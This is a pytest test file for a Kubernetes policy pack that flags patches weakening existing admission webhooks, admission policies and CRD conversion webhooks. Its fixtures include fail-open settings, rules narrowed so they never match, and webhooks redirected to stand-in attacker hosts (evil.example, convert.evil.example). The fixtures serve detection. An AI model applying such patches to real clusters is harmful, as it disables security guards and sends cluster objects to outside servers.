"""Admission guards the stack did not create, and CRD conversion webhooks, over gRPC (issue 11; k8s12's gaps).

AGID-K8S-009: a *Patch of an existing validating webhook configuration / ValidatingAdmissionPolicy / binding that
fails it open, narrows it or redirects it; a mutating webhook patch that changes an existing webhook's client
while keeping rules the pack cannot see; CRD conversion webhooks at a URL outside the cluster, or set on an existing
CRD by a patch. AGID-K8S-011: a MutatingAdmissionPolicyBinding alone, binding a policy the stack does not create.
Sources: https://kubernetes.io/docs/reference/access-authn-authz/extensible-admission-controllers/,
https://kubernetes.io/docs/reference/access-authn-authz/validating-admission-policy/,
https://kubernetes.io/docs/tasks/extend-kubernetes/custom-resources/custom-resource-definition-versioning/.
"""

from __future__ import annotations

import pytest

from agentid.analyzer_client import StackResource
from agentid_policy_packs.rules.base import category_of
from tests.policy.pack_cases import stack_findings
from tests.policy.ruletools import UNKNOWN
from tests.policy.test_pack_grpc import urn

AR = "kubernetes:admissionregistration.k8s.io"
VALIDATING, VALIDATING_PATCH = f"{AR}/v1:ValidatingWebhookConfiguration", f"{AR}/v1:ValidatingWebhookConfigurationPatch"
VALIDATING_BETA_PATCH = f"{AR}/v1beta1:ValidatingWebhookConfigurationPatch"
MUTATING_PATCH = f"{AR}/v1:MutatingWebhookConfigurationPatch"
VAP_PATCH, VAPB_PATCH = f"{AR}/v1:ValidatingAdmissionPolicyPatch", f"{AR}/v1:ValidatingAdmissionPolicyBindingPatch"
VAPB = f"{AR}/v1:ValidatingAdmissionPolicyBinding"
MAP, MAP_PATCH = f"{AR}/v1alpha1:MutatingAdmissionPolicy", f"{AR}/v1beta1:MutatingAdmissionPolicyPatch"
MAPB, MAPB_V1 = f"{AR}/v1alpha1:MutatingAdmissionPolicyBinding", f"{AR}/v1:MutatingAdmissionPolicyBinding"
MAPB_PATCH = f"{AR}/v1beta1:MutatingAdmissionPolicyBindingPatch"
CRD, CRD_PATCH = "kubernetes:apiextensions.k8s.io/v1:CustomResourceDefinition", \
    "kubernetes:apiextensions.k8s.io/v1:CustomResourceDefinitionPatch"
CRD_BETA = "kubernetes:apiextensions.k8s.io/v1beta1:CustomResourceDefinition"


def findings(pack, type_, props, name="g"):
    return [category_of(d.message.rsplit("\n", 1)[-1])[1]
            for d in pack.analyze(type_, name, urn(type_, name), props)
            if d.policy_name == "AGID-K8S-009" and d.enforcement_level == "mandatory"]


def hook_patch(**fields):
    return {"metadata": {"name": "kyverno-resource-validating-webhook-cfg"},
            "webhooks": [{"name": "validate.kyverno.svc-fail", **fields}]}


SECRETS_RULE = {"operations": ["CREATE", "UPDATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"]}


@pytest.mark.parametrize("type_, props, fragment", [
    # fail open: every request the guard would refuse is admitted as soon as its server errs or times out
    (VALIDATING_PATCH, hook_patch(failurePolicy="Ignore"), "webhooks[0].failurePolicy Ignore"),
    (VALIDATING_BETA_PATCH, hook_patch(failurePolicy="Ignore"), "webhooks[0].failurePolicy Ignore"),
    # narrowed to what nobody creates, or to objects labelled so
    (VALIDATING_PATCH, hook_patch(rules=[{**SECRETS_RULE, "resources": ["nothing"]}]), "webhooks[0].rules"),
    (VALIDATING_PATCH, hook_patch(objectSelector={"matchLabels": {"skip": "no"}}), "webhooks[0].objectSelector"),
    (VALIDATING_PATCH, hook_patch(matchConditions=[{"name": "never", "expression": "false"}]),
     "webhooks[0].matchConditions"),
    # redirected to another server that admits everything
    (VALIDATING_PATCH, hook_patch(clientConfig={"service": {"namespace": "agents", "name": "yes"}}),
     "webhooks[0].clientConfig"),
    (VAP_PATCH, {"metadata": {"name": "no-privileged"}, "spec": {"failurePolicy": "Ignore"}}, "spec.failurePolicy Ignore"),
    (VAP_PATCH, {"metadata": {"name": "no-privileged"}, "spec": {"validations": [{"expression": "true"}]}},
     "spec.validations"),
    (VAPB_PATCH, {"metadata": {"name": "no-privileged"}, "spec": {"validationActions": ["Audit"]}},
     "spec.validationActions"),
    (VAPB_PATCH, {"metadata": {"name": "no-privileged"}, "spec": {"matchResources": {"namespaceSelector": {
        "matchLabels": {"none": "x"}}}}}, "spec.matchResources"),
    # an existing mutating webhook, its rules unseen, pointed at the stack's server
    (MUTATING_PATCH, {"metadata": {"name": "istio-sidecar-injector"}, "webhooks": [{
        "name": "namespace.sidecar-injector.istio.io", "clientConfig": {"url": "https://evil.example/inject"}}]},
     "webhooks[0].clientConfig"),
])
def test_patches_weakening_an_existing_guard_are_flagged(pack, type_, props, fragment):
    [found] = findings(pack, type_, props)
    assert "patches an existing admission guard the stack does not create" in found and fragment in found, found


@pytest.mark.parametrize("type_, props", [
    # tightening or leaving an existing guard as it is
    (VALIDATING_PATCH, hook_patch(failurePolicy="Fail")),
    (VALIDATING_PATCH, hook_patch(admissionReviewVersions=["v1"], sideEffects="None")),
    (VALIDATING_PATCH, {"metadata": {"name": "k", "labels": {"team": "platform"}}}),
    (VAP_PATCH, {"metadata": {"name": "no-privileged"}, "spec": {"failurePolicy": "Fail"}}),
    (VAPB_PATCH, {"metadata": {"name": "no-privileged"}, "spec": {"validationActions": ["Deny", "Audit"]}}),
    (MUTATING_PATCH, {"metadata": {"name": "istio-sidecar-injector"}, "webhooks": [{
        "name": "namespace.sidecar-injector.istio.io", "failurePolicy": "Ignore"}]}),
    # a NEW guard that fails open removes nothing that existed; a new binding only adds a check
    (VALIDATING, {"metadata": {"name": "mine"}, "webhooks": [{
        "name": "mine.example.com", "failurePolicy": "Ignore", "clientConfig": {"service": {
            "namespace": "agents", "name": "check"}}, "rules": [SECRETS_RULE], "sideEffects": "None",
        "admissionReviewVersions": ["v1"]}]}),
    (VAPB, {"metadata": {"name": "b"}, "spec": {"policyName": "cluster-guard", "validationActions": ["Warn"]}}),
])
def test_look_alikes_that_keep_the_guard_pass(pack, type_, props):
    assert findings(pack, type_, props) == []


def test_validating_patch_failure_policy_unknown_cannot_be_checked(pack):
    [diag] = [d for d in pack.analyze(VALIDATING_PATCH, "g", urn(VALIDATING_PATCH, "g"),
                                      hook_patch(failurePolicy=UNKNOWN)) if d.policy_name == "AGID-K8S-009"]
    assert "cannot check until known: webhooks[0].failurePolicy" in diag.message


def crd(conversion, version_key="webhook"):
    client = {"clientConfig": conversion} if version_key == "webhook" else conversion
    return {"metadata": {"name": "widgets.agents.example.com"}, "spec": {
        "group": "agents.example.com", "names": {"kind": "Widget", "plural": "widgets"}, "scope": "Namespaced",
        "versions": [{"name": "v1", "served": True, "storage": True}],
        "conversion": {"strategy": "Webhook", **({"webhook": {**client, "conversionReviewVersions": ["v1"]}}
                                                  if version_key == "webhook" else {"webhookClientConfig": client})}}}


def test_conversion_webhooks_outside_the_cluster_or_on_existing_crds_are_flagged(pack):
    [outside] = findings(pack, CRD, crd({"url": "https://convert.evil.example/c"}))
    assert "converts its custom resources through https://convert.evil.example/c (clientConfig.url" in outside
    [beta] = findings(pack, CRD_BETA, crd({"url": "https://convert.evil.example/c"}, "webhookClientConfig"))
    assert "convert.evil.example" in beta
    [existing] = findings(pack, CRD_PATCH, crd({"service": {"namespace": "agents", "name": "conv"}}))
    assert "sets the conversion webhook of an existing CustomResourceDefinition (service agents/conv)" in existing


def test_own_crd_converted_in_cluster_or_without_webhook_passes(pack):
    assert findings(pack, CRD, crd({"service": {"namespace": "agents", "name": "conv"}})) == []
    plain = crd({})
    plain["spec"]["conversion"] = {"strategy": "None"}
    assert findings(pack, CRD, plain) == []
    assert findings(pack, CRD_PATCH, {"metadata": {"name": "x"}, "spec": {"versions": []}}) == []


# --- AGID-K8S-011: a MutatingAdmissionPolicyBinding alone -------------------------------------------------------

def policy(name="agents-defaults"):
    return StackResource(MAP, name, urn(MAP, name), {"metadata": {"name": name}, "spec": {
        "matchConstraints": {"resourceRules": [{"operations": ["CREATE"], "apiGroups": ["agents.example.com"],
                                                "apiVersions": ["*"], "resources": ["widgets"]}]},
        "mutations": [{"patchType": "ApplyConfiguration"}]}})


def binding(name, policy_name, deps=(), type_=MAPB):
    return StackResource(type_, name, urn(type_, name), {"metadata": {"name": name}, "spec": {
        "policyName": policy_name}}, dependencies=list(deps))


def test_binding_of_a_policy_outside_the_stack_cannot_be_checked(pack):
    own = policy()
    found = stack_findings(pack, "AGID-K8S-011", [
        own, binding("istio", "istio-sidecar-everywhere"), binding("v1", "cluster-injector", type_=MAPB_V1),
        binding("decoy", "agents-defaults"),  # the stack's name, but no dependency
        StackResource(MAPB_PATCH, "repoint", urn(MAPB_PATCH, "repoint"), {"metadata": {"name": "existing"},
                                                                          "spec": {"matchResources": {}}}),
    ], "mandatory")
    assert [name for name, _ in found] == ["decoy", "istio", "repoint", "v1"]
    assert ("binds mutating admission policy 'istio-sidecar-everywhere', which this stack does not create "
            "(or the binding does not depend on it): cannot check") in dict(found)["istio"]
    assert "the mutating admission policy of an existing binding" in dict(found)["repoint"]


def autonamed_policy():
    """A policy whose metadata.name the provider generates: its name output is unknown at preview."""
    named = policy("agents-auto")
    return StackResource(MAP, named.name, named.urn, {"metadata": {}, "spec": named.properties["spec"]})


def test_binding_of_the_stacks_own_policy_passes(pack):
    own, auto = policy(), autonamed_policy()
    assert stack_findings(pack, "AGID-K8S-011", [
        own, auto, binding("by-output", UNKNOWN, deps=[auto.urn]),
        binding("by-name", "agents-defaults", deps=[own.urn])]) == []


def test_depending_on_the_stacks_policy_does_not_explain_a_name_another_output_may_hide(pack):
    """issue 11: a binding whose policyName is a constant behind a ConfigMap's Output (an existing cluster-wide
    injector) with `depends_on=[the stack's policy]` passed; so did one depending on a policy whose name is known (its
    name Output would have been known too). Both cannot be checked until known; the propertyDependencies of `spec`
    decide where the engine sends them."""
    own, auto = policy(), autonamed_policy()
    marker = StackResource("kubernetes:core/v1:ConfigMap", "marker", urn("kubernetes:core/v1:ConfigMap", "marker"), {})
    by_input = binding("by-input", UNKNOWN, deps=[auto.urn, marker.urn])
    by_input.property_dependencies = {"spec": [marker.urn]}
    own_by_input = binding("own-by-input", UNKNOWN, deps=[auto.urn, marker.urn])
    own_by_input.property_dependencies = {"spec": [auto.urn], "metadata": [marker.urn]}
    found = [m for _, m in stack_findings(pack, "AGID-K8S-011", [
        own, auto, marker, binding("hidden", UNKNOWN, deps=[auto.urn, marker.urn]), by_input, own_by_input,
        binding("known-name", UNKNOWN, deps=[own.urn])])]
    assert [sorted(m.rsplit("cannot check until known: ", 1)[-1].removesuffix(" is computed during preview").split(", "))
            for m in found] == [["by-input.spec.policyName", "hidden.spec.policyName", "known-name.spec.policyName"]], found


def test_a_policy_patch_replacing_mutations_of_an_existing_policy_is_flagged(pack):
    [found] = findings(pack, MAP_PATCH, {"metadata": {"name": "cluster-injector"}, "spec": {
        "mutations": [{"patchType": "JSONPatch"}]}})
    assert "spec.mutations" in found
